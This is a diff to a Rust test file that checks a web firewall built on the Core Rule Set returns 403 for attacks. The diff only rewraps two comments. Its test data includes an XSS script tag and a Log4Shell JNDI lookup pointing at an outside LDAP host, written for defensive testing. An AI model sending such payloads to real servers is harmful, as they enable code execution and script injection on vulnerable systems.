@@ -1,4 +1,5 @@
-//! With the published Core Rule Set, attacks are denied wherever they stand, and what people send passes.
+//! With the published Core Rule Set, attacks are denied wherever they stand, and what people send
+//! passes.
 
 mod site;
 
@@ -62,7 +63,8 @@ fn attacks_of_every_family_are_denied_in_every_place() {
     let denied = |attack: &str, place: &str, request: &[u8]| {
         assert_eq!(status(&edge, request), 403, "{attack} in {place}: {}", edge.log());
     };
-    // Above the first line what is seen in heads as well; below, where the set looks for it at paranoia level 1.
+    // Above the first line what is seen in heads as well; below, where the set looks for it at
+    // paranoia level 1.
     for attack in [
         "<script>alert(1)</script>",
         "${jndi:ldap://198.51.100.7/a}",
